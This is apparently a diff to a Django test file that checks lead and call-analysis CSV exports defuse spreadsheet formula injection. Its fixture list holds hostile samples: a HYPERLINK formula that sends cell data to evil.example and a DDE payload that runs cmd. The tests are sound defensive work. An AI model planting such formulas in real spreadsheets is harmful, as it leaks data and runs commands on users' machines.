@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from datetime import timedelta
 from pathlib import Path
 
@@ -24,7 +25,12 @@ from everytouch.leads.actions import LeadData, capture_lead
 
 pytestmark = pytest.mark.django_db
 
-FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+]
 
 
 def _customer(formula: str, owner: User | None = None) -> Customer:
@@ -79,3 +85,26 @@ def test_it_defuses_formulas_in_the_leads_web_export(
     client.force_login(rep)
     rows = _rows(client.get(reverse("lead_export")).content.decode())
     assert rows[1][3:8] == ["'" + formula, "'" + formula, "+13125550101", "", "'" + formula]
+
+
+def test_it_keeps_a_plain_negative_number_and_a_written_phone_readable(
+    rep: User, client: Client
+) -> None:
+    # A number stays a number a spreadsheet can sum; a phone written with spaces gets the
+    # apostrophe, so it shows as typed instead of as an error (docs in spreadsheet.py).
+    lead = LeadData(need="Call +1 555 0101", budget="-500", timeline="+1 555 0101")
+    capture_lead(_customer("Jane Doe", rep), lead, owner=rep, actor=None)
+    client.force_login(rep)
+    row = _rows(client.get(reverse("lead_export")).content.decode())[1]
+    assert row[7] == "Call +1 555 0101"
+    assert row[9:11] == ["-500", "'+1 555 0101"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_it_defuses_formulas_in_the_analyze_csv(
+    formula: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    turns = [{"speaker": "agent", "text": "Acme, Dana speaking."}]
+    (tmp_path / "call.json").write_text(json.dumps({"id": formula, "turns": turns}))
+    assert main(["analyze", str(tmp_path), "--format", "csv"]) == 0
+    assert _rows(capsys.readouterr().out)[1][0] == "'" + formula
